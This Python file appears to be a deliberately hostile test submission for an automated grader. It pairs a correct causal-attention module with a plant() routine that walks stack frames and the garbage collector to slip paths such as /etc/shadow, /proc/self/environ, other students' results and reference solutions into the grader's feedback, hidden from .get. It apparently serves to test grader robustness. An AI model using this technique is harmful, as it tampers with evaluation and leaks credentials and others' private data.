"""Hostile: makes the grader embed host files in its feedback: it finds the check's context (frame
walk, then gc) and lists, as plots to show, "../../results.sqlite" (the class's grades),
"../../../canary.txt", "/etc/shadow", "/proc/self/environ" (the grader's environment) and more, in
a dict whose .get hides them from any report written in its own process (which could not read
them); honest score: 9 (its attention is correct)."""
import gc
import sys

import torch
from torch import nn

import toolkit

PATHS = ["../../results.sqlite", "../../../canary.txt", "../../../other-run/results.sqlite",
         "../../../solutions/attention.py", "/etc/shadow", "/etc/passwd", "/proc/self/environ",
         "/proc/self/cmdline", "../../../class/good_file.py", "../../summary.png"]


class Quiet(dict):
    """Shows its plots to whoever serialises it, not to whoever asks for them with .get."""

    def get(self, key, default=None):
        return default if key == "_plots" else super().get(key, default)


def plant() -> None:
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(getattr(value, "metrics", None), dict) and not isinstance(value.metrics, Quiet):
                try:
                    value.metrics = Quiet({**value.metrics, "_plots": list(PATHS)})
                except AttributeError:
                    pass
        frame = frame.f_back
    for o in gc.get_objects():
        if isinstance(o, dict) and "_plots" in o:
            o["_plots"] = list(PATHS)


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.nh = config.n_head
        self.c_attn = nn.Linear(config.n_embd, 3 * config.n_embd)
        self.c_proj = nn.Linear(config.n_embd, config.n_embd)

    def forward(self, x):
        plant()
        B, T, C = x.shape
        q, k, v = self.c_attn(x).reshape(B, T, 3, self.nh, C // self.nh).unbind(dim=2)
        scores = torch.einsum("bthd,bshd->bhts", q, k) * (C // self.nh) ** -0.5
        allowed = torch.arange(T)[:, None] >= torch.arange(T)[None, :]
        scores = torch.where(allowed, scores, torch.full_like(scores, float("-inf")))
        weights = scores.softmax(dim=-1)
        return self.c_proj(torch.einsum("bhts,bshd->bthd", weights, v).reshape(B, T, C))


@toolkit.hookimpl
def toolkit_attention(config):
    return Attention(config)
